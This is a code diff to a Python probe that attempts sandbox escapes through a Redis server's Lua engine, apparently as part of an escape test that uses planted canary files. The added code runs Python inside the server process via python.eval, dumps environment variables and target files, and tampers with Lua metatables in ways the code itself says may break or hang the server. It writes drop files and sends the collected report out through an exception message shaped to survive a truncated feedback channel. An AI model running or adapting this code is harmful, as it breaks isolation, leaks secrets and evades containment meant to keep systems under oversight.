@@ -447,14 +447,14 @@ LUA = {
     "string.dump": "return tostring(#string.dump(function() return 1 end))",
     "dofile": "return tostring(dofile('/etc/hostname'))",
     "loadfile": "return tostring(loadfile('/etc/hostname'))",
-    "getmetatable-string": "local mt = getmetatable('') mt.__index = nil return 'changed'",
     "redis.call.__globals__": "return tostring(redis.call.__globals__)",
     "_G-walk": "local out = {} for k, v in pairs(_G) do if type(v) == 'userdata' or k == 'python' then out[#out+1] = k end end return table.concat(out, ',')",
-    "setmetatable-_G": "setmetatable(_G, {__index = function(t, k) return k end}) return 'ok'",
     "global-write": "escape_global_%s = 1 return 'ok'" % HEX,
     "collectgarbage": "return tostring(collectgarbage('count'))",
     "redis.breakpoint": "return tostring(redis.breakpoint())",
     "cjson-bomb": "return #cjson.encode(string.rep('a', 1))",
+    "getmetatable-string": "local mt = getmetatable('') mt.__index = nil return 'changed'",
+    "setmetatable-_G": "setmetatable(_G, {__index = function(t, k) return k end}) return 'ok'",
 }
 LUA_ESCAPES = {"python.eval", "python.builtins", "python.import", "os.execute", "io.open", "io.popen",
                "require", "package.loadlib", "debug.getregistry", "loadstring-os", "dofile", "loadfile",
@@ -472,13 +472,50 @@ ESCAPE_COMMANDS = {"CONFIG SET", "SAVE", "BGSAVE", "BGREWRITEAOF", "DEBUG SLEEP"
                    "ACL SETUSER", "REPLICAOF NO", "SLAVEOF NO"}
 
 
-def probe_redis(r):
+SERVER_SIDE = r"""
+import os, json
+out = {"pid": os.getpid(), "cmdline": open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"),
+       "env": dict(os.environ), "files": {}}
+for p in TARGETS:
+    try:
+        out["files"][p] = open(p).read(4096)
+    except Exception as e:
+        out["files"][p] = type(e).__name__
+try:
+    with open(os.path.join(DROP, "lua-server-%d.json" % os.getpid()), "w") as f:
+        f.write(json.dumps(out))
+except Exception:
+    pass
+RESULT = json.dumps(out)
+"""
+
+
+_CURRENT = [""]
+
+
+def probe_lua(r):
     if r is None:
         return
     ok = []
+    _CURRENT[0] = "python.eval-server-side"
+    # code in the server's process, if Lua can reach Python: it reads the canaries from there
+    code = "TARGETS = %r\nDROP = %r\n" % (list(CONFIG["read_targets"]), CONFIG["drop_dir"]) + SERVER_SIDE
+    expr = "(lambda g: (exec(%r, g), g['RESULT'])[1])({})" % code
+    try:
+        res = r.eval("return tostring(python.eval(ARGV[1]))", 0, expr)
+        res = res.decode() if isinstance(res, bytes) else str(res)
+        _scan(res, "lua-python-server-side")
+        pid = json.loads(res)["pid"]
+        if pid != os.getpid():  # Python code running in another process: the server's
+            _reach("lua:python.eval-in-server-process:%d" % pid)
+        else:
+            INFO.append("lua-python-in-own-process")
+    except Exception:
+        pass
     for name, script in LUA.items():
         if _left() < 0:
             break
+        _CURRENT[0] = name
         try:
             res = r.eval(script, 0)
             _scan(str(res), "lua:" + name)
@@ -500,7 +537,14 @@ def probe_redis(r):
         _scan(str(res), "lua-getenv")
     except Exception:
         pass
+
+
+def probe_redis(r):
+    if r is None:
+        return
     for cmd in COMMANDS:
+        if _left() < 0:
+            break
         head = " ".join(cmd[:2]) if len(cmd) > 1 else cmd[0]
         try:
             res = r.execute_command(*cmd)
@@ -564,7 +608,9 @@ def probe_tamper():
 
 def _report_text():
     # what was found first: the feedback keeps only the start of a message
-    return json.dumps({"found": FOUND, "reached": REACHED[:60], "info": INFO[:20]})
+    # and the escapes before the hooks it merely sees
+    reached = sorted(REACHED, key=lambda x: x.startswith("tamperable:"))
+    return json.dumps({"found": FOUND, "reached": reached[:60], "info": INFO[:20]})
 
 
 def _drop():
@@ -581,8 +627,8 @@ SLICES = [("probe_env", 0.3), ("probe_proc", 0.7), ("probe_network", 0.6), ("pro
           ("probe_tamper", 0.1), ("probe_files", 0.8)]
 
 
-def run(r=None, budget=3.0):
-    key = "redis" if r is not None else "host"
+def run(r=None, budget=3.0, part="cmds"):
+    key = part if r is not None else "host"
     if key in _DONE:
         return
     _DONE.add(key)
@@ -597,10 +643,18 @@ def run(r=None, budget=3.0):
             INFO.append("t:%s:%.2f" % (name, time.monotonic() - t0))
     else:
         _DEADLINE[0] = time.monotonic() + budget
-        try:
-            probe_redis(r)
-        except Exception as e:
-            INFO.append("probe_redis:%s" % type(e).__name__)
+        def step():
+            try:
+                (probe_redis if part == "cmds" else probe_lua)(r)
+            except Exception as e:
+                INFO.append("probe_%s:%s" % (part, type(e).__name__))
+        # in a thread: a script or command that never returns still lets the report out
+        import threading
+        t = threading.Thread(target=step, daemon=True)
+        t.start()
+        t.join(budget + 1.0)
+        if t.is_alive():
+            _reach("%s-hung-at:%s" % (part, _CURRENT[0]) if part == "lua" else "cmds-hung")
     if _report_to_shared():
         _reach("tcp:127.0.0.1:6379-write")
     if _drop():
@@ -610,8 +664,12 @@ def run(r=None, budget=3.0):
 
 
 def _call(r, name):
+    # the first function's calls report the host and the server commands; the others add Lua (which
+    # may leave the server's Lua state broken, or hang it)
     run(None, 1.2)
-    run(r, 1.0)
+    run(r, 1.0, "cmds")
+    if name != CONFIG.get("first_function", name):
+        run(r, 1.0, "lua")
     raise RuntimeError("ESCAPE-REPORT " + _report_text())
 
 
